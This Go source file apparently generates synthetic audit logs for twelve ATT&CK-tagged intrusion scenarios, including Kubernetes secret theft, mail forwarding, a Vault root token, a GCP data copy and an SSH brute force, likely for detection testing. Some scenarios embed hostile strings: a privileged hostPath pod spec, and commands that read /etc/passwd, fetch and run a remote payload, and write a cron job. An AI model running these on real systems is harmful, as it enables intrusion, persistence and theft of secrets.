package audit

import (
	"fmt"

	"github.com/tickmark/tickmark/internal/simco/life"
)

var machinerySchemes = []scheme{
	{"Every secret of the cluster is read", "A kubeconfig was taken from a laptop", []string{"T1552.001", "T1078", "T1613", "T1552.007"}, true, 0, 3, secretsDump},
	{"Somebody becomes administrator of the cluster", "A kubeconfig was taken from a laptop", []string{"T1078", "T1098.006", "T1528"}, true, 0, 2, clusterAdmin},
	{"A container with all rights over its machine starts", "A kubeconfig was taken from a laptop", []string{"T1078", "T1610", "T1611"}, true, 0, 4, privilegedPod},
	{"A command is run in a container of production", "A kubeconfig was taken from a laptop", []string{"T1078", "T1609", "T1552.007"}, true, 0, 1, containerExec},
	{"Mail of a mailbox goes elsewhere", "A password and a code were phished", []string{"T1078.004", "T1114.003", "T1114.002"}, true, 0, 6, forwarding},
	{"A mailbox is read in a stolen session", "A session that was opened properly goes on from somewhere else", []string{"T1550.004", "T1114.002", "T1213.002"}, false, 0, 9, mailboxRead},
	{"Files of a department are opened to everybody", "A session of the office suite is taken over", []string{"T1539", "T1567.002", "T1530"}, true, 0, 20, massShare},
	{"Somebody who leaves takes files along", "An insider, in working hours, with rights of their own", []string{"T1213", "T1052", "T1567.002"}, false, 4, 9, leaverFiles},
	{"A root token of the vault is made", "A token of an operator is taken over", []string{"T1078", "T1098", "T1555"}, true, 0, 2, rootToken},
	{"Secrets are read with a program's token", "A token of a program is taken from its machine", []string{"T1552.005", "T1555.006"}, false, 0, 22, vaultReads},
	{"A host is guessed open, and a job of the clock comes back", "Passwords are guessed at a host", []string{"T1110.001", "T1021.004", "T1059.004", "T1053.003", "T1105"}, true, 0, 3, cronHost},
	{"A key of a service account copies the lake", "An account of the other cloud is taken over", []string{"T1078.004", "T1098.001", "T1530"}, true, 0, 0, lakeKey},
}

// kubeconfig is somebody's certificate for the cluster in other hands.
func (p *plot) kubeconfig() (ask, place) {
	v, from := p.victim("Platform"), p.enter(false)
	a := p.kubeUser(p.mail(v))
	p.with("principal", p.mail(v))
	p.with("credential", a.credential)
	a.verb, a.resource, a.namespace = "list", "pods", "production"
	p.kube(p.now, &from, a)
	p.touch("read", "pods", "production")
	return a, from
}

// ask makes a request with what somebody has.
func (p *plot) ask(a ask, from *place, verb, resource, sub, namespace, name, body string) {
	a.verb, a.resource, a.sub, a.namespace, a.name, a.body = verb, resource, sub, namespace, name, body
	p.kube(p.soon(), from, a)
}

func secretsDump(p *plot) {
	a, from := p.kubeconfig()
	p.ask(a, &from, "list", "secrets", "", "", "", "")
	for i := range min(14, len(p.cast.services)) {
		name := p.cast.services[i].name + "-env"
		p.ask(a, &from, "get", "secrets", "", "production", name, "")
		p.touch("read", "secrets", "production/"+name)
	}
}

func clusterAdmin(p *plot) {
	a, from := p.kubeconfig()
	name := "metrics-" + letters(p.number(), hexadecimal, 4)
	p.ask(a, &from, "create", "serviceaccounts", "", "kube-system", name, "")
	p.ask(a, &from, "create", "clusterrolebindings", "", "", name, `{"roleRef":{"kind":"ClusterRole","name":"cluster-admin"},"subjects":[{"kind":"ServiceAccount","name":"`+name+`"}]}`)
	p.touch("created", "serviceaccounts", "kube-system/"+name)
	p.touch("changed", "clusterrolebindings", name)
	p.leave("serviceaccounts", "kube-system/"+name)
	p.leave("clusterrolebindings", name)
	u := ask{user: "system:serviceaccount:kube-system:" + name}
	p.with("principal", u.user)
	p.ask(u, &from, "list", "nodes", "", "", "", "")
	p.ask(u, &from, "list", "pods", "", "kube-system", "", "")
	p.touch("read", "pods", "kube-system")
}

func privilegedPod(p *plot) {
	a, from := p.kubeconfig()
	name := "debug-" + letters(p.number(), hexadecimal, 5)
	p.ask(a, &from, "create", "pods", "", "production", name,
		`{"spec":{"hostPID":true,"containers":[{"name":"d","image":"alpine","securityContext":{"privileged":true}}],"volumes":[{"name":"r","hostPath":{"path":"/"}}]}}`)
	p.ask(a, &from, "create", "pods", "exec", "production", name, "")
	p.touch("created", "pods", "production/"+name)
}

func containerExec(p *plot) {
	a, from := p.kubeconfig()
	sv := pick(p.dice, p.cast.services)
	pod := p.pod(&sv, 0)
	p.ask(a, &from, "get", "pods", "", "production", pod, "")
	p.ask(a, &from, "create", "pods", "exec", "production", pod, "")
	p.ask(a, &from, "get", "configmaps", "", "production", sv.name, "")
	p.touch("changed", "pods", "production/"+pod)
	p.touch("read", "configmaps", "production/"+sv.name)
}

// outlooker is somebody whose mail lies with the other vendor.
func (p *plot) outlooker() (string, int32) {
	v := p.victim("Finance", "Legal", "People")
	p.with("principal", p.mail(v))
	return p.mail(v), v
}

func forwarding(p *plot) {
	mail, _ := p.outlooker()
	from, session := p.enter(false), guid(p.number())
	p.with("session", session)
	p.entra(p.now, &from, mail, session, "Office 365 Exchange Online", 0, "")
	for range 5 {
		p.m365(p.soon(), &from, mail, "Exchange", "MailItemsAccessed", mail, session)
	}
	rule := mail + `\Archive`
	p.m365(p.soon(), &from, mail, "Exchange", "New-InboxRule", rule, session, "Name", "Archive", "ForwardTo", "collect@mailbox.example", "DeleteMessage", "True")
	p.touch("changed", "object", rule)
	p.leave("object", rule)
}

func mailboxRead(p *plot) {
	mail, v := p.outlooker()
	_, at := p.present(v)
	p.now = at + p.span(90*life.Minute, 3*life.Hour)
	from := p.enter(false)
	session := p.mailSession(v, at) // the one its owner opened that morning
	p.with("session", session)
	for i := range 40 {
		p.later(3*life.Second, 30*life.Second)
		if i%5 == 4 {
			url := p.share(p.w.People[v].JobAt(p.now).Dept, i)
			p.m365(p.now, &from, mail, "SharePoint", "FileDownloaded", url, session)
			p.touch("read", "object", url)
			continue
		}
		p.m365(p.now, &from, mail, "Exchange", "MailItemsAccessed", mail, session)
	}
}

func massShare(p *plot) {
	v, from := p.victim("Sales", "Product", "Marketing"), p.enter(false)
	mail, dept := p.mail(v), p.w.People[v].JobAt(p.now).Dept
	p.with("principal", mail)
	for n := range 26 {
		id, title := p.file(dept, n)
		p.workspace(p.later(2*life.Second, 15*life.Second), &from, Drive, "drive", mail, "change_document_visibility", "doc_id", id, "doc_title", title,
			"visibility", "people_with_link", "old_visibility", "private", "visibility_change", "external")
		p.touch("changed", "file", id)
		p.leave("file", id)
	}
}

func leaverFiles(p *plot) {
	v := p.victim("Sales", "Customer Support", "Product")
	mail, dept := p.mail(v), p.w.People[v].JobAt(p.now).Dept
	p.with("principal", mail)
	for day := range 4 {
		_, at := p.present(v)
		p.now = at + p.span(4*life.Hour, 5*life.Hour)
		home := p.whereabouts(v, int(at.Date()))
		p.with("ip", home.ip)
		for n := range 28 {
			id, title := p.file(dept, 300+day*28+n)
			p.workspace(p.later(30*life.Second, 3*life.Minute), &home, Drive, "drive", mail, "download", "doc_id", id, "doc_title", title, "visibility", "private", "owner", mail)
			p.touch("read", "file", id)
		}
		p.now = life.Midnight(p.now.Date() + 1)
	}
}

func rootToken(p *plot) {
	v, from := p.victim("Platform"), p.enter(false)
	mail, accessor := p.mail(v), letters(p.number(), hexadecimal, 32)
	p.with("principal", "oidc-"+mail)
	p.with("session", "hmac-sha256:"+accessor)
	do := func(operation, path string) {
		p.vault(p.soon(), &from, "oidc-"+mail, "ent-"+mail, accessor, operation, path, false)
	}
	p.vault(p.now, &from, "oidc-"+mail, "ent-"+mail, accessor, "update", "auth/oidc/oidc/callback/login", true)
	do("update", "sys/generate-root/attempt")
	do("update", "sys/generate-root/update")
	root := letters(p.number(), hexadecimal, 32)
	p.with("session", "hmac-sha256:"+root)
	do = func(operation, path string) {
		p.vault(p.soon(), &from, "root", "", root, operation, path, false)
	}
	do("update", "sys/policies/acl/everything")
	p.touch("changed", "path", "sys/generate-root/attempt", "sys/generate-root/update", "sys/policies/acl/everything")
	p.leave("path", "sys/policies/acl/everything")
	for i := range 6 {
		path := "secret/data/" + p.cast.services[i%len(p.cast.services)].name + "/database"
		do("read", path)
		p.touch("read", "path", path)
	}
}

func vaultReads(p *plot) {
	sv := pick(p.dice, p.cast.services)
	from, accessor := p.enter(false), p.vaultToken(&sv, p.now)
	p.with("principal", "ent-"+sv.name)
	p.with("session", "hmac-sha256:"+accessor)
	for i := range min(12, len(p.cast.services)) {
		path := "secret/data/" + p.cast.services[i].name + "/database"
		p.vault(p.later(5*life.Second, 25*life.Second), &from, "approle", "ent-"+sv.name, accessor, "read", path, false)
		p.touch("read", "path", path)
	}
}

func cronHost(p *plot) {
	from := p.enter(false)
	p.with("host", builder)
	for range 34 {
		p.sshd(p.later(2*life.Second, 7*life.Second), builder, p.pid(), fmt.Sprintf("Failed password for deploy from %s port %d ssh2", from.ip, 1024+p.IntN(60000)))
	}
	pid, sh := p.pid(), p.pid()
	p.sshd(p.soon(), builder, pid, fmt.Sprintf("Accepted password for deploy from %s port %d ssh2", from.ip, 1024+p.IntN(60000)))
	p.with("principal", "deploy")
	run := func(image, line string) int {
		n := p.pid()
		p.process(p.soon(), builder, "deploy", n, sh, image, line, "/usr/bin/bash")
		return n
	}
	p.process(p.now+300, builder, "deploy", sh, pid, "/usr/bin/bash", "-bash", "/usr/sbin/sshd")
	run("/usr/bin/id", "id")
	run("/usr/bin/cat", "cat /etc/passwd")
	run("/usr/bin/curl", "curl -fsSL http://"+from.ip+"/u -o /tmp/.u")
	n := run("/usr/bin/tee", "tee /etc/cron.d/update")
	p.wrote(p.now+80, builder, "deploy", n, "/usr/bin/tee", "/etc/cron.d/update")
	p.now += life.Second
	run("/tmp/.u", "/tmp/.u")
	p.touch("created", "program", "/usr/bin/bash", "/usr/bin/id", "/usr/bin/cat", "/usr/bin/curl", "/usr/bin/tee", "/tmp/.u")
	p.touch("changed", "file", "/etc/cron.d/update")
	p.leave("file", "/etc/cron.d/update")
}

func lakeKey(p *plot) {
	v, from := p.victim("Data"), p.enter(false)
	mail := p.mail(v)
	p.with("principal", mail)
	const robot = "loader@northwind-data.iam.gserviceaccount.example"
	p.gcp(p.now, &from, mail, "", "iam", "google.iam.admin.v1.ListServiceAccounts", "service_account", "projects/northwind-data", "")
	p.touch("read", "project", "projects/northwind-data")
	key := "projects/northwind-data/serviceAccounts/" + robot + "/keys/" + letters(p.number(), hexadecimal, 40)
	p.gcp(p.soon(), &from, mail, "", "iam", "google.iam.admin.v1.CreateServiceAccountKey", "service_account", "projects/-/serviceAccounts/"+robot, text("name", key))
	p.touch("created", "key", key)
	p.touch("created", "service_account", "projects/-/serviceAccounts/"+robot)
	p.leave("key", key)
	p.with("credential", key)
	second := p.enter(false)
	p.later(20*life.Minute, 50*life.Minute)
	for n := range 22 {
		object := fmt.Sprintf("projects/_/buckets/northwind-lake/objects/day-%d.parquet", 200+n)
		p.gcp(p.later(2*life.Second, 15*life.Second), &second, robot, key, "storage", "storage.objects.get", "gcs_bucket", object, "")
		p.touch("read", "object", object)
	}
}
